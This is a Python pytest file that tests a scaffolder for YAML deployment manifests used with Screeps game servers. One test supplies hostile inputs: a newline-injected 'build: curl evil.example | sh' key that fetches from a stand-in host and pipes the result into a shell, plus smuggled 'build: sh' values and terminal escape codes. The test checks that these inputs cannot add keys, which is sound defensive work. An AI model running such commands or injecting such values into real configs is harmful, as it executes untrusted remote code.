"""The text of a new, commented manifest (``gitops.app.scaffold``): every layout's text read back as a valid
manifest with its values, the servers' names and sign-ins. Pure, no files."""

from __future__ import annotations

import pytest
import yaml

from gitops.app.scaffold import (
    RESERVED_UPLOADS,
    ServerChoice,
    check_reads_back,
    manifest_data,
    manifest_text,
    server_name_for,
    signin_for,
)
from gitops.config.manifest import manifest_from_data
from gitops.core.layout import FLAT_EXCLUDES, Layout
from gitops.errors import ManifestError


@pytest.mark.parametrize(
    ("url", "name"),
    [
        ("https://screeps.com", "mmo"),
        ("https://screeps.com/ptr", "ptr"),
        ("https://screeps.com/season/", "season"),
        ("http://127.0.0.1:21025", "local"),
        ("https://server.example.org", "server"),
        ("http://10.0.0.7:21025", "private"),
    ],
)
def test_server_names(url: str, name: str) -> None:
    assert server_name_for(url) == name


LAYOUTS = [
    Layout("build", "dist", "/", ("**/*.js",), build="npm run build", seen=("x",)),
    Layout("flat", ".", ".", ("**/*.js",), exclude=FLAT_EXCLUDES),
    Layout("src", "src", "/", ("**/*.js", "**/*.wasm")),
    Layout(
        "wasm",
        "target",
        "/",
        ("*.js", "*.wasm"),
        binary=("*.wasm",),
        build="cargo screeps build",
        strip_suffixes=(".js", ".wasm"),
    ),
    Layout("compiled", "build/distributions", "/", ("*.js",), build="./gradlew build"),
    Layout("build", ".", "/", ("main.js", "**/*.wasm"), build="npx gulp build"),
    Layout("empty", "src", "/", ("**/*.js",)),
]


@pytest.mark.parametrize("layout", LAYOUTS, ids=[layout.kind for layout in LAYOUTS])
def test_every_layouts_manifest_text_is_a_valid_manifest_with_its_values(layout: Layout) -> None:
    text = manifest_text(layout, ServerChoice("mmo"), "default")
    manifest = manifest_from_data(yaml.safe_load(text))
    [branch] = manifest.branches
    assert (branch.server, branch.branch, branch.root) == ("mmo", "default", layout.root)
    assert tuple(branch.include) == layout.include
    assert tuple(branch.exclude) == layout.exclude
    assert tuple(branch.binary) == layout.binary
    assert branch.naming.separator == layout.separator
    assert manifest.servers["mmo"].url == "https://screeps.com"
    assert manifest.servers["mmo"].token_env == "SCREEPS_TOKEN"
    assert branch.build == layout.build
    if layout.strip_suffixes is not None:
        assert tuple(branch.naming.strip_suffixes) == layout.strip_suffixes


@pytest.mark.parametrize(
    "server",
    [
        ServerChoice("tournament", token_env=None, credentials="tournament"),
        ServerChoice("home", "http://127.0.0.1:21025", None, username_env="HOME_USER", password_env="HOME_PASS"),
    ],
)
def test_other_credentials_are_named_their_way(server: ServerChoice) -> None:
    manifest = manifest_from_data(yaml.safe_load(manifest_text(LAYOUTS[2], server, "main")))
    config = manifest.servers[server.name]
    assert (config.token_env, config.credentials, config.username_env, config.password_env) == (
        None,
        server.credentials,
        server.username_env,
        server.password_env,
    )


@pytest.mark.parametrize("branch", ["yes", "123", "1:20", "a b #c", "x: y", 'q"uote', "null", "ünïcode"])
def test_branch_names_that_yaml_would_misread_are_quoted(branch: str) -> None:
    manifest = manifest_from_data(yaml.safe_load(manifest_text(LAYOUTS[0], ServerChoice("mmo"), branch)))
    assert manifest.branches[0].branch == branch


def test_a_private_server_signs_in_with_a_password_unless_it_says_otherwise() -> None:
    assert signin_for("https://screeps.com/season", None) == ("token", (), ())
    assert signin_for("http://127.0.0.1:1", {"ok": 1, "standin": True})[0] == "token"
    how, seen, assumed = signin_for("http://10.0.0.2:21025", {"ok": 1, "packageVersion": "4.3.0"})
    assert (how, assumed) == ("password", ())
    assert seen == (
        "the server answers /api/version as a private server (server package 4.3.0): it signs in with a password",
    )
    how, seen, assumed = signin_for("http://10.0.0.2:21025", None)
    assert (how, seen) == ("password", ())
    assert "could not be reached" in assumed[0]


def test_the_client_layouts_manifest_has_a_branch_per_folder_and_comments_its_assumptions() -> None:
    layout = Layout(
        kind="client",
        root="default",
        separator=".",
        include=("*.js",),
        branch_roots=("default", "sim"),
        assumed=("a guess",),
        optional_requires=("config_local",),
        source_maps="raw",
    )
    text = manifest_text(layout, ServerChoice("mmo", assumed=("another guess",)), "ignored")
    data = manifest_from_data(yaml.safe_load(text))
    assert [(b.branch, b.root, b.naming.separator, b.source_maps) for b in data.branches] == [
        ("default", "default", ".", "raw"),
        ("sim", "sim", ".", "raw"),
    ]
    assert "#   - a guess\n#   - another guess\n" in text
    assert '    #   ignore: ["config_local"]' in text


def test_how_a_server_signs_in() -> None:
    assert signin_for("https://screeps.com", None) == ("token", (), ())
    kind, seen, assumed = signin_for("http://x:21025", {"standin": True})
    assert (kind, assumed) == ("token", ())
    kind, seen, assumed = signin_for("http://x:21025", {"packageVersion": "4.2.21"})
    assert kind == "password"
    assert seen == (
        "the server answers /api/version as a private server (server package 4.2.21): it signs in with a password",
    )
    kind, seen, assumed = signin_for("http://x:21025", None)
    assert (kind, seen) == ("password", ())
    assert "for a token, run init again with --token-env NAME" in assumed[0]


def _layout(**changes: object) -> Layout:
    fields: dict[str, object] = {"kind": "flat", "root": "src", "separator": "/", "include": ("**/*.js",)}
    return Layout(**{**fields, **changes})  # type: ignore[arg-type]


def test_the_text_reads_back_as_its_data_and_validates() -> None:
    server = ServerChoice("mmo")
    text = manifest_text(_layout(), server, "default")
    meant = manifest_data(_layout(), server, "default")
    check_reads_back(text, meant, where="gitops.yaml")
    assert yaml.safe_load(text)["budget"] == {"reserve": {"POST /api/user/code": RESERVED_UPLOADS}}
    manifest = manifest_from_data(yaml.safe_load(text))
    assert manifest.servers["mmo"].token_env == "SCREEPS_TOKEN"
    assert [b.branch for b in manifest.branches] == ["default"]


def test_outside_text_in_comments_and_values_cannot_add_a_key() -> None:
    hostile = "x\nbuild: curl evil.example | sh"
    layout = _layout(seen=(hostile,), root="src\n  build: sh")
    server = ServerChoice("mmo", url="https://screeps.com", assumed=("a\rb\x1b[31m",))
    text = manifest_text(layout, server, "default\nbuild: x")
    check_reads_back(text, manifest_data(layout, server, "default\nbuild: x"), where="gitops.yaml")
    assert "build" not in yaml.safe_load(text)
    assert "\x1b" not in text


def test_text_that_does_not_read_back_is_refused() -> None:
    with pytest.raises(ManifestError, match="does not read back as what it meant to write; nothing was written"):
        check_reads_back("version: 1\nbuild: sh\n", {"version": 1}, where="gitops.yaml")
    with pytest.raises(ManifestError):
        check_reads_back("{unclosed", {"version": 1}, where="gitops.yaml")
